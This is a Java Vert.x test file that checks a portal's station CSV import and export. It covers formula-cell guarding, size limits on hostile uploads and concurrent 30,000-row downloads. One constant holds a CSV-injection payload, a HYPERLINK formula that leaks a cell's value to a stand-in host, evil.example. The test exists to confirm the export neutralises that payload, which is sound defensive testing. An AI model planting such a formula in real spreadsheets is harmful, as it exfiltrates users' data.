package cn.shegong.portal.editor;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cn.shegong.portal.common.Csv;
import cn.shegong.portal.stations.StationCsvFormat;
import cn.shegong.portal.synthetic.GenerateCommand;
import cn.shegong.portal.testing.RawHttp;
import cn.shegong.portal.testing.TestPortal;
import io.vertx.core.Future;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.PoolOptions;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.ext.web.client.WebClient;
import io.vertx.ext.web.client.WebClientOptions;
import io.vertx.ext.web.multipart.MultipartForm;
import io.vertx.junit5.VertxExtension;
import io.vertx.pgclient.PgBuilder;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

@ExtendWith(VertxExtension.class)
@DisplayName(
    "Station CSV: formula cells guarded, hostile imports bounded, 30,000 stations exported to ten readers at once")
class StationCsvBoundsTest {
  static final int SYNTHETIC = 30_000;
  static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";
  static TestPortal portal;
  static DeskClient desk;

  @BeforeAll
  static void start(Vertx vertx) throws Exception {
    // the machine is shared and loaded: generous waits for a connection and for the 30,000-row
    // query
    portal =
        TestPortal.create(
                vertx,
                Map.of(
                    "PORTAL_DB_CONNECT_TIMEOUT_MS",
                    "20000",
                    "PORTAL_DB_STATEMENT_TIMEOUT_MS",
                    "60000",
                    "PORTAL_HTTP_IDLE_TIMEOUT_S",
                    "120"))
            .start()
            .await(3, TimeUnit.MINUTES);
    DeskClient.addUser(portal.database(), "alice", "editor");
    desk = DeskClient.login(portal, "alice");
    var pool = PgBuilder.pool().connectingTo(portal.database().url()).using(vertx).build();
    try {
      GenerateCommand.generate(pool, 0, SYNTHETIC).await(5, TimeUnit.MINUTES);
    } finally {
      pool.close().await(30, TimeUnit.SECONDS);
    }
  }

  @AfterAll
  static void stop() throws Exception {
    portal.destroy().await(1, TimeUnit.MINUTES);
  }

  static HttpResponse<Buffer> upload(String content) throws Exception {
    MultipartForm form =
        MultipartForm.create()
            .attribute("_csrf", desk.csrf())
            .binaryFileUpload("file", "stations.csv", Buffer.buffer(content), "text/csv");
    return portal
        .client()
        .post("/editor/stations/import")
        .putHeader("Cookie", Sessions.COOKIE + "=" + desk.cookie)
        .sendMultipartForm(form)
        .await(60, TimeUnit.SECONDS);
  }

  static void importAndConfirm(String csv) throws Exception {
    var report = upload(csv);
    assertEquals(200, report.statusCode(), report.bodyAsString());
    Matcher m =
        Pattern.compile("action=\"(/editor/stations/import/[^\"]+/confirm)\"")
            .matcher(report.bodyAsString());
    assertTrue(m.find(), report.bodyAsString());
    assertEquals(303, desk.post(m.group(1), DeskClient.form()).statusCode());
  }

  static String row(String slug, String name, String organization) {
    List<String> f = new ArrayList<>();
    for (String c : StationCsvFormat.COLUMNS) {
      f.add(
          switch (c) {
            case "id" -> slug;
            case "name" -> name;
            case "organization" -> organization;
            case "kind" -> "psych";
            case "status" -> "active";
            default -> "";
          });
    }
    return Csv.line(f);
  }

  static String exportedLine(String body, String slug) {
    for (String line : body.split("\r\n")) if (line.startsWith(slug + ",")) return line;
    throw new AssertionError(slug + " not in the export");
  }

  @Test
  @DisplayName(
      "a row with =HYPERLINK(...) imports as typed, exports guarded with a quote, and re-imports unchanged")
  void formulaGuardedAndRoundTrips() throws Exception {
    // written as a spreadsheet would, without the guard: the file an attacker hands an editor
    String header = String.join(",", StationCsvFormat.COLUMNS) + "\r\n";
    String hostile =
        row("formula-station", "x", "y")
            .replaceFirst(",x,", ",\"" + FORMULA.replace("\"", "\"\"") + "\",")
            .replaceFirst(",y,", ",@SUM(1+1),");
    importAndConfirm(header + hostile);
    assertEquals(
        FORMULA,
        portal.database().queryOne("SELECT name FROM stations WHERE slug = 'formula-station'"));
    String body =
        portal
            .client()
            .get("/api/stations.csv?q=" + java.net.URLEncoder.encode("HYPERLINK", "UTF-8"))
            .send()
            .await(60, TimeUnit.SECONDS)
            .bodyAsString();
    String line = exportedLine(body, "formula-station");
    assertTrue(line.contains(",\"'=HYPERLINK("), line);
    assertTrue(line.contains(",'@SUM(1+1),"), line);
    importAndConfirm(body);
    assertEquals(
        FORMULA,
        portal.database().queryOne("SELECT name FROM stations WHERE slug = 'formula-station'"));
    assertEquals(
        "@SUM(1+1)",
        portal
            .database()
            .queryOne("SELECT organization FROM stations WHERE slug = 'formula-station'"));
  }

  @Test
  @DisplayName(
      "a 1 MB single line, 5,001 rows and a 3 MB file are refused with a clear Chinese message naming the line")
  void hostileImports() throws Exception {
    String header = String.join(",", StationCsvFormat.COLUMNS) + "\r\n";
    var oneLine = upload(header + "x".repeat(1024 * 1024));
    assertEquals(400, oneLine.statusCode());
    assertTrue(oneLine.bodyAsString().contains("第 2 行：有一个字段超过 4096 个字符"), oneLine.bodyAsString());
    StringBuilder many = new StringBuilder(header);
    for (int i = 0; i <= 5000; i++) many.append("s-").append(i).append(",站,psych\r\n");
    var rows = upload(many.toString());
    assertEquals(400, rows.statusCode());
    assertTrue(rows.bodyAsString().contains("第 5002 行：一次最多导入 5000 行"), rows.bodyAsString());
    var big = upload(header + ("a,b,c\r\n".repeat(3 * 1024 * 1024 / 7 + 1)));
    assertEquals(400, big.statusCode());
    assertTrue(big.bodyAsString().contains("文件太大"), big.bodyAsString());
  }

  @Test
  @DisplayName(
      "ten concurrent downloads of the 30,000-station CSV all answer 200, complete and identical, while /health stays quick")
  void tenConcurrentDownloads(Vertx vertx) throws Exception {
    Runtime rt = Runtime.getRuntime();
    System.gc();
    long heapBefore = rt.totalMemory() - rt.freeMemory();
    long[] peak = {heapBefore};
    Thread sampler =
        Thread.ofPlatform()
            .daemon()
            .start(
                () -> {
                  while (!Thread.currentThread().isInterrupted()) {
                    peak[0] = Math.max(peak[0], rt.totalMemory() - rt.freeMemory());
                    try {
                      Thread.sleep(10);
                    } catch (InterruptedException e) {
                      return;
                    }
                  }
                });
    long start = System.nanoTime();
    // ten connections of their own, so all ten downloads are really under way at once
    WebClient ten =
        WebClient.create(
            vertx,
            new WebClientOptions().setDefaultHost("localhost").setDefaultPort(portal.port()),
            new PoolOptions().setHttp1MaxSize(10));
    List<Future<HttpResponse<Buffer>>> downloads = new ArrayList<>();
    for (int i = 0; i < 10; i++) downloads.add(ten.get("/api/stations.csv").send());
    long healthStart = System.nanoTime();
    int health;
    try (RawHttp probe = RawHttp.connect(portal.port())) {
      probe.send("GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n");
      health = probe.statusWithin(60_000);
    }
    long healthMs = (System.nanoTime() - healthStart) / 1_000_000;
    Future.all(downloads).await(3, TimeUnit.MINUTES);
    ten.close();
    long tookMs = (System.nanoTime() - start) / 1_000_000;
    sampler.interrupt();
    String etag = downloads.get(0).result().getHeader("ETag");
    int length = downloads.get(0).result().body().length();
    for (var d : downloads) {
      assertEquals(200, d.result().statusCode());
      assertEquals(etag, d.result().getHeader("ETag"));
      assertEquals(length, d.result().body().length());
    }
    long records = downloads.get(0).result().bodyAsString().split("\r\n").length;
    assertTrue(records > SYNTHETIC, records + " lines");
    System.out.printf(
        "CSV export: %d stations, %.1f MB each, 10 concurrent in %d ms; /health during it %d ms; "
            + "test-JVM heap %d MB before, peak %d MB%n",
        records - 1, length / 1e6, tookMs, healthMs, heapBefore >> 20, peak[0] >> 20);
    assertEquals(200, health);
    // before, each download built its CSV on the event loop in turn (1.4 s each at 30,000 stations)
    assertTrue(healthMs < 8_000, "/health waited " + healthMs + " ms behind the downloads");
  }
}
